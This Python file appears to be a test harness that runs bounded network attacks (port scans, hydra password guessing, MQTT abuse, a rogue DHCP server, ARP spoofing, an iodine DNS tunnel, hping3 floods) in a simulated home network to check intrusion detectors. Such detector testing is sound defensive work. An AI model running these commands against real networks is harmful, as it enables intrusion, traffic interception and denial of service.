# SPDX-License-Identifier: Apache-2.0
"""The attacks of the live evaluation: real tools, each with its own host, and the detectors that are right to tell of it.

Each is bounded: by what its tool is told to send, and by the seconds after which it is ended.
"""

import random
import string
from dataclasses import dataclass, field
from typing import Callable

from household import CLOUD, NETWORK, PASSWORD, ROUTER, TUNNEL, USER, WEB

# The first octet of the attackers' addresses. The household's are smaller, and leases end below.
FIRST_OCTET = 100
# An address of the Internet that nobody has.
SILENT = f"{CLOUD}.66"
MINUTE = 60


@dataclass
class Attack:
    """What is done, with which tool, and who is right to tell of it."""

    name: str
    tool: str
    package: str
    expected: list
    act: Callable
    # What the tool works against, as far as it may be missing as well.
    needs: list = field(default_factory=list)
    # The host that alerts are right to name, where it is not the attacker.
    about: str = ""
    # Whether it comes from the Internet.
    is_from_cloud: bool = False

    @property
    def host(self):
        return self.about or f"a{FIRST_OCTET + ATTACKS.index(self)}"


def words(text, **places):
    """A bounded run of a command on the attacker."""

    def act(home, attacker):
        home.segment.run(attacker, "sh", "-c", text.format(**targets(home), **places), seconds=MINUTE)
    return act


def targets(home):
    hosts = {host: home.segment.address(host) for host in home.segment.octets if not host.startswith("a1")}
    return dict(
        hosts, home=f"{NETWORK}.0/24", internet=f"{CLOUD}.0/24", silent=SILENT, web=f"{CLOUD}.{WEB}", folder=home.folder,
        tunnel=TUNNEL, user=USER, password=PASSWORD)


def guesses(home):
    """Twenty passwords, none of which is right."""
    return home.write("guesses", "".join(f"guess-{number}\n" for number in range(20)))


def guess(service, *options):
    def act(home, attacker):
        home.segment.run(
            attacker, "hydra", "-l", "root", "-P", guesses(home), "-t", 4, "-I", *options, home.segment.address("storage"),
            *service, seconds=MINUTE)
    return act


def offer_leases(home, attacker):
    """A second DHCP server, which says it is router and resolver, and a guest who asks."""
    own = home.segment.address(attacker)
    server = home.segment.start(
        attacker, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--interface=eth0",
        "--bind-interfaces", "--user=root", "--no-ping", f"--dhcp-range={NETWORK}.200,{NETWORK}.219,5m",
        f"--dhcp-option=option:router,{own}", f"--dhcp-option=option:dns-server,{own}",
        f"--dhcp-leasefile={home.folder}/rogue-leases", f"--pid-file={home.folder}/rogue.pid")
    home.segment.run("guest", "udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true", "-t", 3, "-T", 2, seconds=15)
    home.segment.end(server)


def stand_between(home, attacker):
    for victim, other in (("camera", ROUTER), (ROUTER, home.segment.address("camera"))):
        target = ROUTER if victim == ROUTER else home.segment.address(victim)
        home.segment.start(attacker, "timeout", "-s", "KILL", 15, "arpspoof", "-i", "eth0", "-t", target, other)
    home.segment.run(attacker, "sleep", 14)


def look_up_drawn_names(home, attacker):
    """Forty names as a program draws them, one a quarter of a second."""
    chance = random.Random(77)
    names = ("".join(chance.choices(string.ascii_lowercase, k=14)) + ".com" for _ in range(40))
    home.segment.run(attacker, "sh", "-c", "; ".join(f"dig +tries=1 +time=1 {name}; sleep 0.25" for name in names), seconds=MINUTE)


def carry_data(home, attacker):
    """A tunnel through the resolver, and a few packets through the tunnel."""
    tunnel = home.segment.start(attacker, "iodine", "-f", "-r", "-P", PASSWORD, ROUTER, TUNNEL)
    home.segment.run(attacker, "sh", "-c", "sleep 12; ping -c 20 -i 0.2 -s 400 -W 1 10.53.0.1", seconds=25)
    home.segment.end(tunnel)


ATTACKS = [
    Attack("scan of a host's TCP ports", "nmap", "nmap", ["vertical-scan"], words("nmap -n -Pn -sS {storage}")),
    Attack("scan of a host's UDP ports", "nmap", "nmap", ["vertical-scan"],
           words("nmap -n -Pn -sU --top-ports 100 --max-retries 1 {hub}")),
    Attack("search for hosts of the segment", "nmap", "nmap", ["arp-sweep"], words("nmap -n -sn {home}")),
    Attack("search for Telnet on the segment", "nmap", "nmap", ["arp-sweep", "horizontal-scan"],
           words("nmap -n -sS -p 23,2323 {home}")),
    Attack("search for Telnet on the Internet", "nmap", "nmap", ["horizontal-scan"],
           words("nmap -n -Pn -sS -p 23 --max-retries 0 {internet}")),
    Attack("search for Telnet on the Internet, at random", "masscan", "masscan", ["horizontal-scan"],
           words("masscan -p 23 --rate 100 --wait 2 --interface eth0 {internet}")),
    Attack("passwords guessed by SSH", "hydra", "hydra", ["brute-force"], guess(["ssh"]), needs=["sshd"]),
    Attack("passwords guessed by FTP", "hydra", "hydra", ["brute-force"], guess(["ftp"]), needs=["vsftpd"]),
    Attack("passwords guessed by Telnet", "hydra", "hydra", ["brute-force"], guess(["telnet"]), needs=["telnetd", "inetutils-inetd"]),
    Attack("passwords guessed by HTTP", "hydra", "hydra", ["brute-force"], guess(["http-get", "/private/"])),
    Attack("passwords guessed by MQTT", "mosquitto_pub", "mosquitto-clients", ["brute-force"],
           words("for n in $(seq 15); do mosquitto_pub -h {hub} -u {user} -P guess-$n -t home/x -m x; sleep 0.3; done")),
    Attack("every MQTT topic read", "mosquitto_sub", "mosquitto-clients", ["mqtt-topics"],
           words("mosquitto_sub -h {hub} -t '#' -W 5")),
    Attack("another client's MQTT name used", "mosquitto_sub", "mosquitto-clients", ["client-takeover"],
           words("mosquitto_sub -h {hub} -i thermostat-in -t home/thermostat/set -W 5")),
    Attack("30,000 MQTT messages", "mosquitto_pub", "mosquitto-clients", ["publish-flood"],
           words("seq 30000 | mosquitto_pub -h {hub} -l -t home/x/state")),
    Attack("a second DHCP server", "dnsmasq", "dnsmasq-base", ["rogue-server"], offer_leases),
    Attack("all leases taken", "dhcpstarv", "dhcpstarv", ["rogue-server"],
           words("timeout -s KILL 10 dhcpstarv -i eth0 -e {router}")),
    Attack("ARP spoofing between camera and router", "arpspoof", "dsniff", ["arp-spoof"], stand_between),
    Attack("a tunnel in DNS", "iodine", "iodine", ["dns-tunnel"], carry_data, needs=["iodined"]),
    Attack("names that a program drew", "dig", "bind9-dnsutils", ["generated-names"], look_up_drawn_names),
    Attack("a name that leads into the home", "curl", "curl", ["resolver-change"],
           words("curl -s -o /dev/null http://page.rebind.example/")),
    Attack("SYN flood of a silent host", "hping3", "hping3", ["flood-out"], words("hping3 -q -S -p 80 -i u500 -c 8000 {silent}")),
    Attack("UDP flood of a silent host", "hping3", "hping3", ["flood-out"],
           words("hping3 -q -2 -p 9 -d 64 -i u500 -c 8000 {silent}")),
    Attack("ICMP flood of a silent host", "hping3", "hping3", ["flood-out"], words("hping3 -q -1 -i u500 -c 8000 {silent}")),
    Attack("SYN flood of a server that answers", "hping3", "hping3", ["flood-out"],
           words("hping3 -q -S -p 80 -i u500 -c 8000 {web}")),
    Attack("SYN flood under false addresses", "hping3", "hping3", ["spoofed-source", "flood-out"],
           words("hping3 -q -S -p 80 -i u500 -c 8000 --rand-source {web}")),
    Attack("a page of the storage fetched from the Internet", "curl", "curl", ["exposed-service"],
           words("curl -s -o /dev/null --interface {web} http://{storage}/"), about="storage", is_from_cloud=True),
    Attack("CoAP asked from the Internet for large answers", "coap-client-notls", "libcoap3-bin",
           ["coap-amplification", "reflection"],
           words("for n in $(seq 15); do coap-client-notls -a {web} -B 2 coap://{lamp}/log; done"), about="lamp",
           is_from_cloud=True),
]
